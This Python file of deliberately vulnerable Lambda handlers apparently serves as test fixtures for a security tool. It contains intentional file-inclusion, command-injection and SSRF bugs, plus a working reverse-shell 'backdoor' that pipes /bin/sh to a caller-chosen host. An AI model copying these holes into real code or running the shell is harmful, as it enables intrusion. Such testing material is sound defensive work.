"""Deliberately vulnerable Lambda handlers (Python) for fnguard's demos and tests.

Each handler has the bug a real function might have; never deploy them.
    read_file    reads the file named by ?file=      (local file inclusion)
    ping         runs `ping -c1 HOST` through a shell (command injection)
    fetch        fetches the URL in ?url=             (SSRF)
    backdoor     spawns sh and connects it out to ?host=&port= (a reverse shell,
                 what an attacker runs after a code injection)
    hello        benign: answers with a greeting
"""
import json
import os
import socket
import subprocess
import urllib.request


def _params(event):
    return (event or {}).get("queryStringParameters") or {}


def _respond(status, body):
    return {"statusCode": status, "headers": {"content-type": "text/plain"}, "body": body}


def read_file(event, context):
    name = _params(event).get("file", "README.txt")
    path = os.path.join(os.path.dirname(__file__), "public", name)
    with open(path) as f:  # BUG: ../ and absolute paths escape public/
        return _respond(200, f.read())


def ping(event, context):
    host = _params(event).get("host", "127.0.0.1")
    # BUG: the parameter is pasted into a shell command line.
    out = subprocess.run("echo pinging " + host, shell=True, capture_output=True, text=True)
    return _respond(200, out.stdout + out.stderr)


def fetch(event, context):
    url = _params(event).get("url", "")
    try:
        with urllib.request.urlopen(url, timeout=3) as r:  # BUG: any URL, any host
            return _respond(200, r.read().decode(errors="replace"))
    except Exception as exc:
        return _respond(502, "fetch failed: %s" % exc)


def backdoor(event, context):
    p = _params(event)
    host, port = p.get("host", "127.0.0.1"), int(p.get("port", "4444"))
    try:
        s = socket.create_connection((host, port), timeout=3)
    except OSError as exc:
        return _respond(502, "connect failed: %s" % exc)
    proc = subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(),
                            stderr=s.fileno())
    proc.wait(timeout=10)
    s.close()
    return _respond(200, "done")


def hello(event, context):
    name = _params(event).get("name", "world")
    return {"statusCode": 200, "headers": {"content-type": "application/json"},
            "body": json.dumps({"hello": name, "request_id": context.aws_request_id})}
